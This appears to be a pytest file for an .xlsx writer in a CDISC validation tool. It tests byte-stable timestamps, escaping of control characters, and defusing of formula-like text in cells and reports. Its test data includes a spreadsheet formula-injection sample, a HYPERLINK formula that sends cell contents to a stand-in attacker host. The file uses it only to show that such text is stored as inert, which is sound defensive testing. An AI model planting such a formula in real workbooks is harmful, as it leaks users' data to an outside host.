"""Byte-stable workbooks: every time stamp inside the .xlsx is the one given."""
import datetime as dt
import zipfile

from openpyxl import Workbook

from cdisc.xlsx import save_stable

STAMP = dt.datetime(2025, 6, 30, 0, 0, 0)


def _workbook() -> Workbook:
    wb = Workbook()
    wb.active.append(["Rule", "Count"])
    wb.active.append(["CORE-000001", 2])
    return wb


def test_every_time_in_the_archive_is_the_stamp(tmp_path):
    save_stable(_workbook(), tmp_path / "a.xlsx", STAMP)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2025, 6, 30, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert ">2025-06-30T00:00:00Z</dcterms:modified>" in core
    assert ">2025-06-30T00:00:00Z</dcterms:created>" in core


def test_the_same_workbook_gives_the_same_bytes(tmp_path):
    save_stable(_workbook(), tmp_path / "a.xlsx", STAMP)
    save_stable(_workbook(), tmp_path / "b.xlsx", STAMP)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_text_cell_never_holds_a_formula(tmp_path):
    """Text starting like a formula (=, +, -, @, tab, CR) is read back by openpyxl as the same string, typed `s`
    and quote-prefixed; plain text is not prefixed."""
    from openpyxl import load_workbook

    from cdisc.xlsx import text_cell

    wb = Workbook()
    for row, value in enumerate([*FORMULAS, "plain text"], start=1):
        text_cell(wb.active.cell(row=row, column=1), value)
    save_stable(wb, tmp_path / "a.xlsx", STAMP)
    cells = [row[0] for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows()]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        *[(v, "s", True) for v in FORMULAS], ("plain text", "s", False)]


def test_text_cell_shows_a_control_character_a_worksheet_cannot_hold_as_its_escape(tmp_path):
    """STUDYID "IM\x0196" from a dataset's value made openpyxl raise IllegalCharacterError (the validation report
    was left without its workbook); a tab and a line break are kept."""
    from openpyxl import load_workbook

    from cdisc.xlsx import text_cell

    wb = Workbook()
    for row, value in enumerate(["IM\x0196", "a\x1fb\x00", "tab\there\nand there"], start=1):
        text_cell(wb.active.cell(row=row, column=1), value)
    save_stable(wb, tmp_path / "a.xlsx", STAMP)
    assert [row[0].value for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows()] == [
        "IM\\x0196", "a\\x1fb\\x00", "tab\there\nand there"]


def test_validation_report_xlsx_neutralises_formula_text(tmp_path):
    """A finding whose dataset, message, record values or explanation come from the data or a define.xml can start
    like a formula; report.xlsx stores each as an inert string."""
    from openpyxl import load_workbook

    from cdisc.validate.finding import Finding, RuleStatus, ValidationResult
    from cdisc.validate.report import write_report_xlsx

    evil = FORMULAS[0]
    finding = Finding(rule="CORE-000001", severity="error", dataset="@AE", message=evil, count=1,
                      variables=("AETERM",), records=({"USUBJID": "=1+1", "AETERM": evil},), explanation="+1")
    result = ValidationResult(package="X", standard="SDTMIG", datasets={"@AE": 1}, findings=(finding,),
                              rules=(RuleStatus(rule="CORE-000001", status="executed", description=evil),))
    write_report_xlsx(result, tmp_path / "report.xlsx")
    wb = load_workbook(tmp_path / "report.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    starts_like_formula = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in starts_like_formula} >= {evil, "@AE", "+1"}
    assert all(c.data_type == "s" and c.quotePrefix for c in starts_like_formula)
    assert wb["Issue Summary"]["F2"].value == evil
